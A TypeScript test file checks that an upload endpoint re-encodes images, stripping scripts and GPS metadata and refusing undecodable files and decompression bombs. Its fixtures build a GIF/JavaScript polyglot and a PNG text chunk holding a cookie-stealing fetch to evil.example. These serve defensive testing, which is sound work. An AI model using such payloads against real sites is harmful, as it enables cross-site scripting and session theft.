/**
 * Uploads carry nothing but pixels: each accepted image is decoded and re-encoded (functions/_lib/uploads/reencode.ts)
 * and only the clean copy is stored and served. Checked on what the store holds (the file under DATA_DIR/uploads, and
 * the row when uploads are kept in the database): it decodes as an image of the same type, differs from the upload,
 * and holds no script text and no metadata.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { crc32 } from 'node:zlib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { detectImageType } from '../../functions/_lib/uploads/sniff.ts';
import { harness, openTestDatabase, uploadForm, type Harness, type TestDatabase } from './support/backends.ts';

const WRONG_TYPE = 'Only image files (JPG, PNG, GIF, WebP) are allowed';

/**
 * A GIF that is also JavaScript: the logical screen width is the bytes `/*`, so the header opens a JS comment; a GIF
 * comment extension closes it and runs `=alert(1)`, and `//` hides the trailer. As JS it is `GIF89a=alert(1)`.
 */
function gifScriptPolyglot(): Buffer {
  const script = Buffer.from('*/=alert(1)//', 'latin1');
  return Buffer.concat([
    Buffer.from('GIF89a/*', 'latin1'),
    Buffer.from([0x01, 0x00, 0x80, 0x00, 0x00]), // height 1, a global table of two colours
    Buffer.from([0x00, 0x00, 0x00, 0xff, 0xff, 0xff]),
    Buffer.from([0x2c, 0x00, 0x00, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00]), // one 1x1 frame
    Buffer.from([0x02, 0x02, 0x44, 0x01, 0x00]),
    Buffer.from([0x21, 0xfe, script.length]),
    script,
    Buffer.from([0x00, 0x3b]),
  ]);
}

/** A PNG with a tEXt chunk holding a script, inserted after IHDR with its CRC, as an encoder would write it. */
async function pngWithScriptChunk(): Promise<Buffer> {
  const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#3366cc' } }).png().toBuffer();
  const data = Buffer.from('Comment\u0000fetch("https://evil.example/?c="+document.cookie)', 'latin1');
  const chunk = Buffer.alloc(12 + data.length);
  chunk.writeUInt32BE(data.length, 0);
  chunk.write('tEXt', 4, 'latin1');
  data.copy(chunk, 8);
  chunk.writeUInt32BE(crc32(chunk.subarray(4, 8 + data.length)), 8 + data.length);
  const afterHeader = 8 + 25;
  return Buffer.concat([png.subarray(0, afterHeader), chunk, png.subarray(afterHeader)]);
}

async function jpegWithGps(): Promise<Buffer> {
  return sharp({ create: { width: 16, height: 12, channels: 3, background: '#88aa44' } })
    .jpeg()
    .withExif({ IFD0: { Make: 'PhoneCo', Model: 'Phone 15' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 30/1 2659/100', GPSLongitudeRef: 'W', GPSLongitude: '0/1 7/1 3955/100' } })
    .toBuffer();
}

let database: TestDatabase;
let files: Harness;
let rows: Harness;

beforeAll(async () => {
  database = await openTestDatabase('embedded');
  files = harness(database.db);
  rows = harness(database.db, { uploadsInDatabase: true });
}, 60_000);

afterAll(async () => {
  files.cleanup();
  rows.cleanup();
  await database.close();
});

/** Uploads through the function, then reads what each store holds for it. */
async function uploadAndReadStored(h: Harness, bytes: Buffer, filename: string, type: string): Promise<Buffer> {
  const response = await h.call('POST', '/upload', { body: uploadForm(bytes, filename, type) });
  expect(response.status, JSON.stringify(response.json)).toBe(201);
  const { name, size } = response.json.data as { name: string; size: number };
  let stored: Buffer;
  if (h === files) {
    stored = readFileSync(join(h.dataDir, 'uploads', name));
  } else {
    const found = await h.backend.db.query<{ bytes: Uint8Array }>('select bytes from feedback.uploaded_files where name = $1', [name]);
    stored = Buffer.from(found[0]?.bytes ?? []);
  }
  expect(stored.length).toBe(size);
  const served = await h.call('GET', `/uploads/${name}`);
  expect(Buffer.from(await served.raw.arrayBuffer()).equals(stored)).toBe(true);
  return stored;
}

async function expectOnlyPixels(stored: Buffer, upload: Buffer, format: string, forbidden: string[]): Promise<void> {
  expect(stored.equals(upload)).toBe(false);
  const metadata = await sharp(stored).metadata();
  expect(metadata.format).toBe(format);
  expect(metadata.width).toBeGreaterThan(0);
  expect(metadata.exif).toBeUndefined();
  expect(metadata.xmp).toBeUndefined();
  expect(metadata.iptc).toBeUndefined();
  expect(metadata.comments ?? []).toEqual([]);
  const text = stored.toString('latin1');
  for (const word of forbidden) expect(text).not.toContain(word);
}

describe.each(['filesystem', 'database'])('uploads kept in the %s are re-encoded', (store) => {
  const h = () => (store === 'filesystem' ? files : rows);

  it('stores a GIF/JS polyglot as a plain GIF with no script in it', async () => {
    const polyglot = gifScriptPolyglot();
    // The threat was real: the structural sniffing alone accepted it byte for byte.
    expect(detectImageType(polyglot)).toBe('image/gif');
    const stored = await uploadAndReadStored(h(), polyglot, 'p.gif', 'image/gif');
    await expectOnlyPixels(stored, polyglot, 'gif', ['alert', '/*', '*/']);
  });

  it('stores a PNG without the script its text chunk carried', async () => {
    const png = await pngWithScriptChunk();
    expect((await sharp(png).metadata()).comments?.[0]?.text).toContain('document.cookie');
    const stored = await uploadAndReadStored(h(), png, 'p.png', 'image/png');
    await expectOnlyPixels(stored, png, 'png', ['document.cookie', 'tEXt', 'evil.example']);
  });

  it('stores a phone photo without its GPS position or camera', async () => {
    const jpeg = await jpegWithGps();
    expect((await sharp(jpeg).metadata()).exif?.toString('latin1')).toContain('PhoneCo');
    const stored = await uploadAndReadStored(h(), jpeg, 'photo.jpg', 'image/jpeg');
    await expectOnlyPixels(stored, jpeg, 'jpeg', ['PhoneCo', 'Exif']);
    expect((await sharp(stored).metadata()).width).toBe(16);
  });
});

describe('what re-encoding keeps and refuses', () => {
  it('keeps an animated GIF animated (every frame re-encoded)', async () => {
    const frame = (colour: string) => sharp({ create: { width: 6, height: 4, channels: 3, background: colour } }).png().toBuffer();
    const animated = await sharp([await frame('#ff0000'), await frame('#0000ff')], { join: { animated: true } }).gif().toBuffer();
    expect((await sharp(animated).metadata()).pages).toBe(2);
    const stored = await uploadAndReadStored(files, animated, 'a.gif', 'image/gif');
    expect((await sharp(stored, { animated: true }).metadata()).pages).toBe(2);
  });

  it('refuses a file that passes the signature checks but does not decode, with the spec’s message', async () => {
    const broken = Buffer.concat([Buffer.from('GIF89a', 'latin1'), Buffer.from([0x01, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00]), Buffer.from('not an image at all;', 'latin1')]);
    expect(detectImageType(broken)).toBe('image/gif');
    const response = await files.call('POST', '/upload', { body: uploadForm(broken, 'b.gif', 'image/gif') });
    expect(response.status).toBe(415);
    expect(response.json).toEqual({ success: false, error: WRONG_TYPE });
  });

  it('refuses an image of more than 50 megapixels (a decompression bomb) before decoding it', async () => {
    // Its header claims 8000 x 8000; the pixels are never decoded.
    const header = await sharp({ create: { width: 1, height: 1, channels: 3, background: '#000000' } }).png().toBuffer();
    const bomb = Buffer.from(header);
    bomb.writeUInt32BE(8000, 16);
    bomb.writeUInt32BE(8000, 20);
    bomb.writeUInt32BE(crc32(bomb.subarray(12, 29)), 29);
    const response = await files.call('POST', '/upload', { body: uploadForm(bomb, 'bomb.png', 'image/png') });
    expect(response.status).toBe(413);
    expect(response.json.error).toMatch(/50 megapixels/);
  });
});
